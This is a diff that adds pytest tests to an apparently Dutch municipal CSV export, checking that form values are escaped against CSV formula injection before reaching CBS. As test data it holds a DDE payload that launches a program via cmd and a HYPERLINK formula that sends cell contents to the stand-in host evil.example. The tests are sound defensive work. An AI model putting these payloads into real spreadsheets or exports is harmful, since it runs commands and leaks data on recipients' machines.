@@ -120,6 +120,48 @@ def test_values_are_quoted_only_when_needed(value: str, written: str):
     assert csv_value(value) == written
 
 
+def test_formulas_in_the_form_reach_cbs_neutralised_byte_for_byte(client_a: Client, municipality_a):
+    """OWASP CSV injection: a spreadsheet at CBS must not run what a gemeente typed."""
+    municipality_a.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    municipality_a.save()
+    report(municipality_a, PREVIOUS)
+    form = submit(
+        client_a,
+        PREVIOUS,
+        {"WMO_KOSTEN": "nee", "KOSTEN_JW": "nee"},
+        name='=HYPERLINK("https://evil.example/?x="&A1;"klik")',
+        email="-2+3@example.org",
+        phone="+31 20 123 45 67",
+    )
+    with default_storage.open(form.stored_name, "rb") as stored:
+        lines = stored.read().split(b"\r\n")
+    assert lines[1] == (
+        b"'@SUM(1+1)*cmd|' /C calc'!A0;2025HJ02;WMO basisset;ja;2026-11-29;"
+        b'"\'=HYPERLINK(""https://evil.example/?x=""&A1;""klik"")";'
+        b"'-2+3@example.org;+31 20 123 45 67"
+    )
+    assert all(not cell.startswith(b"=") for line in lines for cell in line.split(b";"))
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", '"\'\r=1+1"'),
+        ('=HYPERLINK("x";"y")', '"\'=HYPERLINK(""x"";""y"")"'),
+        ("+31 20 123 45 67", "+31 20 123 45 67"),  # a phone number as the form accepts it
+        ("+31 20 CALL", "'+31 20 CALL"),
+        ("a=1", "a=1"),
+    ],
+)
+def test_a_value_a_spreadsheet_would_run_gets_a_quote_first(value: str, written: str):
+    assert csv_value(value) == written
+
+
 def test_a_value_with_a_line_break_stays_one_field(settings):
     settings.MSD_CONSENT_CSV_PERIOD_HEADER = "verslagperiode"
     content = csv_bytes([["Gemeente\r\nNoord", "2026HJ01", "x", "ja", "2026-11-29", "n", "e", "t"]])
